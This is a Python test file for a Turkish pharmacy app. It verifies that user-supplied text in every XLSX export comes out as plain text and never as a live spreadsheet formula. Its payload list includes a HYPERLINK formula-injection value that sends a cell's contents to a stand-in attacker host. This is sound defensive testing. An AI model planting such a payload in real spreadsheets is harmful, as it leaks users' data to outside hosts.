"""Issue 13: no formula ever leaves in an export.

Every payload below goes through every user-supplied field that reaches an XLSX (count session
name, product names from the catalog, user names, device ids, unreadable scans, serials and
batches, İTS sender names, the pharmacist's keep-out notes, placement applicant ids and seed),
the workbook is downloaded as the pharmacist would and read back with openpyxl: no cell is a
formula, and the payload is there as text.

The test discovers the exports: every route whose path ends in ``.xlsx`` and every export
registered with the one writer (``eczane.exports.workbook.REGISTRY``) must have a case here, and
no module but the writer may import an XLSX writing library.
"""

from __future__ import annotations

import csv
import importlib
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text

import eczane
from eczane.domain.karekod import Karekod
from eczane.domain.reconcile import InTransitPack
from eczane.exports.workbook import REGISTRY
from eczane.store import count as count_store
from eczane.store.reconcile import replace_in_transit, run_reconciliation
from eczane.store.reconcile.overrides import set_override
from tests.store.test_reconcile import (
    BEFORE,
    G1,
    LATER,
    add_onhand_import,
    add_products,
    add_snapshot,
)

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&B9,"Tıkla")', "+1", "-1+1", "@SUM(1)", "\t=1",
            "\r=1", "=1+1"]
SERIALS = ("=1+1", "+1", "-1+1")
"""Serials and batches a real karekod may carry (GS1 charset 82 has = + -)."""


def cells(body: bytes) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(body))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_no_formula(body: bytes, *texts: str) -> None:
    """No formula cell; each text is found as (part of) a string cell."""
    all_cells = cells(body)
    formulas = [(c.coordinate, c.value) for c in all_cells if c.data_type == "f"]
    assert formulas == []
    values = [c.value for c in all_cells if c.data_type == "s" and isinstance(c.value, str)]
    for t in texts:
        core = t.strip("\t\r\n ")
        assert any(core in v for v in values), f"{t!r} not in the workbook as text"


def count_export(app_client, db, payload: str) -> bytes:
    ph = app_client.pharmacies
    with db.begin() as conn:
        add_products(conn, [(G1, payload, "normal")])
        conn.execute(text("UPDATE app_user SET display_name = :n WHERE id = :i"),
                     {"n": payload, "i": ph.alice_id})
        sid = count_store.open_session(conn, ph.pharmacy_id, ph.alice_id, payload)
    today = date.today()
    for i, serial in enumerate(SERIALS):
        raw = Karekod(G1, serial, LATER, serial).element_string()
        count_store.record_scan(db, sid, raw=raw, client_scan_id=f"c{i}", device_id=payload,
                                grp="raf", user_id=ph.alice_id, today=today)
    count_store.record_scan(db, sid, raw=payload, client_scan_id="bad", device_id=payload,
                            grp="raf", user_id=ph.alice_id, today=today)
    with db.begin() as conn:
        session = count_store.get_session(conn, sid)
        first = next(count_store.active_scans(conn, sid))
        count_store.undo_scan(conn, session, first.id, ph.alice_id)
    r = app_client.login("alice").get(f"/sayim/{sid}/sayim.xlsx")
    assert r.status_code == 200
    return r.content


def reconciliation_export(app_client, db, payload: str) -> bytes:
    ph = app_client.pharmacies
    pid = ph.pharmacy_id
    short = payload[:20]  # serials and batches hold at most 20 characters (GS1 AI 21, AI 10)
    with db.begin() as conn:
        add_products(conn, [(G1, payload, "normal")])
        add_snapshot(conn, pid, [(G1, short, LATER, short, payload, BEFORE),
                                 (G1, "KEPT", LATER, "L1", payload, BEFORE),
                                 (G1, "ONSHELF", LATER, short, payload, BEFORE)])
        iid = add_onhand_import(conn, pid, [(G1, "ONSHELF", LATER, short),
                                            (G1, "EXTRA", LATER, short)])
        replace_in_transit(conn, pid, [InTransitPack(G1, "TR1", LATER, short, "eczane", payload)],
                           user_id=None)
        set_override(conn, pid, G1, "KEPT", note=f"x {payload}", user_id=ph.alice_id)
        rid = run_reconciliation(conn, pid, today=date.today(), user_id=ph.alice_id,
                                 onhand_import_id=iid)
    r = app_client.login("alice").get(f"/mutabakat/{rid}/mutabakat.xlsx")
    assert r.status_code == 200
    return r.content


def placement_export(app_client, db, payload: str) -> bytes:
    ann = "il;ilçe;kontenjan\nİstanbul;Kadıköy;1\nAnkara;Çankaya;1\n".encode()
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=";", lineterminator="\n")
    w.writerow(["başvuru no", "puan", "tercih1", "tercih2"])
    w.writerow([payload, "30", "İstanbul/Kadıköy", "Ankara/Çankaya"])
    w.writerow(["A2", "20", "İstanbul/Kadıköy", "Ankara/Çankaya"])
    client = app_client.login("alice")
    r = client.post("/yerlestirme/calistir", data={"tohum": payload, "baslik": payload},
                    files=[("dosyalar", ("ilan.csv", ann, "text/csv")),
                           ("dosyalar", ("b.csv", buf.getvalue().encode(), "text/csv"))],
                    follow_redirects=False)
    assert r.status_code == 303, r.text
    x = client.get(r.headers["location"] + "/sonuc.xlsx")
    assert x.status_code == 200
    return x.content


def evidence_its_file(app_client, db, payload: str) -> bytes:
    """The evidence pack's İTS file written again from stored rows (an older import)."""
    from eczane.exports.evidence import its_rows_xlsx

    short = payload[:20]
    with db.begin() as conn:
        add_products(conn, [(G1, payload, "normal")])
        sid = add_snapshot(conn, app_client.pharmacies.pharmacy_id,
                           [(G1, short, LATER, short, payload, BEFORE)])
        return its_rows_xlsx(conn, sid)


CASES = {
    "count": ("/sayim/{session_id}/sayim.xlsx", count_export),
    "reconciliation": ("/mutabakat/{rid}/mutabakat.xlsx", reconciliation_export),
    "placement": ("/yerlestirme/kosu/{run_id}/sonuc.xlsx", placement_export),
    "evidence": ("/bildirim/{sid}/denetim-dosyasi.zip", evidence_its_file),
}
"""Export (as registered with the writer) → its download route and how to fill it."""


@pytest.mark.parametrize("export", sorted(CASES))
@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_a_formula_payload_in_any_user_field_comes_out_of_every_export_as_text(
        app_client, db, export, payload):
    body = CASES[export][1](app_client, db, payload)
    assert_no_formula(body, payload)


def test_the_count_export_keeps_serials_that_look_like_formulas_as_text(app_client, db):
    body = count_export(app_client, db, "Ürün")
    assert_no_formula(body, *SERIALS)


def test_numbers_stay_numbers_and_gtins_stay_text(app_client, db):
    wb = openpyxl.load_workbook(io.BytesIO(count_export(app_client, db, "PAROL 500 MG")))
    products = list(wb["Ürünler"].iter_rows(min_row=2))
    assert products[0][0].data_type == "s" and products[0][0].value == G1
    assert products[0][4].data_type == "n" and products[0][4].value == 2


def route_paths(routes, prefix: str = "") -> set[str]:
    """Every route path of the app, routers included (FastAPI ≥ 0.160 keeps them nested)."""
    out: set[str] = set()
    for r in routes:
        sub = getattr(r, "original_router", None)
        if sub is not None:
            out |= route_paths(sub.routes, prefix + r.include_context.prefix)
        elif getattr(r, "path", None):
            out.add(prefix + r.path)
    return out


def test_every_xlsx_route_and_every_registered_export_has_a_case_here(app_client):
    routes = {p for p in route_paths(app_client.app.routes) if p.endswith(".xlsx")}
    assert routes == {path for path, _ in CASES.values() if path.endswith(".xlsx")}
    src = Path(eczane.__file__).parent
    for path in src.rglob("*.py"):  # every module that uses the writer registers on import
        code = path.read_text(encoding="utf-8")
        if "from eczane.exports.workbook import" in code:
            assert "register(" in code, f"{path.name} writes XLSX without registering it"
            importlib.import_module("eczane." + ".".join(path.relative_to(src).with_suffix("").parts))
    assert set(REGISTRY) == set(CASES)


def test_no_module_but_the_one_writer_writes_xlsx():
    src = Path(eczane.__file__).parent
    writers = re.compile(r"\bimport xlsxwriter|\bfrom xlsxwriter|openpyxl\.Workbook\(|"
                         r"from openpyxl import .*Workbook\b|write_only=True")
    found = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
                   if writers.search(p.read_text(encoding="utf-8")))
    assert found == ["exports/workbook.py"]
